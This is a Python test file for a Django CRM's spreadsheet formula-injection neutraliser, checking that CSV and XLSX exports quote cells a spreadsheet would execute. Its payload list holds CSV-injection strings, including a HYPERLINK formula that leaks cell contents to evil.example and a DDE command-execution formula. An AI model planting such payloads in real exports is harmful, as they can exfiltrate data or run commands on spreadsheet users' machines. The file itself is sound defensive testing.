"""crm.cells: the one formula neutraliser, and every door that writes a file going through
it. Each download is read back as a spreadsheet user's program would read it (CSV parsed,
XLSX opened with openpyxl) and the cells are checked."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from crm.cells import cell_neutralise, cell_restore

BACKEND = "django.contrib.auth.backends.ModelBackend"

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\r=2+2",
    "\n=2+2",
    "\t=2+2",
    "\0=2+2",
    "  =2+2",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["+8613812345678", "-648.00", "12.5", "龙傲天", "a=b", "", "-", "2024-01-05", "'already quoted"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_restored_by_imports(value):
    neutral = cell_neutralise(value)

    assert neutral == "'" + value
    assert cell_restore(neutral) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phones_and_plain_text_are_left_readable(value):
    assert cell_neutralise(value) == value
    assert cell_restore(cell_neutralise(value)) == value


def _csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # what makes Excel read the Chinese
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _client(user):
    client = Client()
    client.force_login(user, backend=BACKEND)
    return client


# --- the player export ------------------------------------------------------------


def test_player_export_quotes_a_leading_cr_and_keeps_phone_numbers_readable(make_player, supervisor, tmp_path):
    make_player(account_id="cr1", nickname="\r=2+2", phone="+8613812345678", notes="-1+1")
    client = _client(supervisor)
    export = reverse("admin:players_player_export")

    rows = _csv(b"".join(client.get(export, {"_format": "csv"}).streaming_content))
    path = tmp_path / "players.xlsx"
    path.write_bytes(b"".join(client.get(export, {"_format": "xlsx"}).streaming_content))
    sheet = load_workbook(path).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    xlsx_row = dict(zip(header, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))

    csv_row = dict(zip(rows[0], rows[1], strict=True))
    for row in (csv_row, xlsx_row):
        # (XML reads the CR back as LF: what matters is the apostrophe in front)
        assert row["nickname"][0] == "'" and row["nickname"][1:].strip() == "=2+2"
        assert row["notes"] == "'-1+1"
        assert row["phone"] == "+8613812345678"


# --- the feedback topics' CSV -------------------------------------------------------


def test_feedback_topic_export_quotes_formula_titles(make_player, supervisor):
    from players.services.feedback import feedback_record

    topic = feedback_record(player=make_player(), text='=HYPERLINK("http://evil.example","fix")', kind="bug").topic
    client = _client(supervisor)

    response = client.post(
        reverse("admin:players_feedbacktopic_changelist"),
        {"action": "export_csv", "_selected_action": [topic.pk]},
    )

    rows = _csv(response.content)
    title = rows[0].index("title")
    assert rows[1][title] == '\'=HYPERLINK("http://evil.example","fix")'


# --- the daily work report's CSV ----------------------------------------------------------


def test_work_report_csv_quotes_a_staff_name_that_is_a_formula(make_player, make_staff, supervisor):
    from players.services import contact_log_create

    staff = make_staff("eve", "VIP manager", first_name="=1+1")
    contact_log_create(player=make_player(manager=staff), staff=staff, channel="phone", outcome="reached")
    today = timezone.localdate().isoformat()

    response = _client(supervisor).get(
        reverse("admin:players_case_report"), {"start": today, "end": today, "format": "csv"}
    )

    names = [row[1] for row in _csv(response.content)[1:]]
    assert "'=1+1" in names


# --- the import problem report ------------------------------------------------------


def test_import_problem_report_quotes_echoed_cells(db, tmp_path, settings):
    from players.services.imports import import_file_command

    settings.MEDIA_ROOT = tmp_path / "media"
    source = tmp_path / "players.csv"
    source.write_text(
        'account_id,phone\n10001,"=HYPERLINK(""http://evil.example"",""x"")"\n10002,@SUM(1)\n',
        encoding="utf-8",
    )
    report_path = tmp_path / "players.csv.report.csv"

    import_file_command(path=source, report_path=report_path)

    rows = list(csv.reader(io.StringIO(report_path.read_text(encoding="utf-8-sig"))))
    reasons = {row[1]: row[3] for row in rows[1:]}
    assert reasons["10001"].startswith('\'=HYPERLINK("http://evil.example","x")')
    assert reasons["10002"].startswith("'@SUM(1)")
    for row in rows:
        for cell in row:
            assert cell_neutralise(cell) == cell, cell
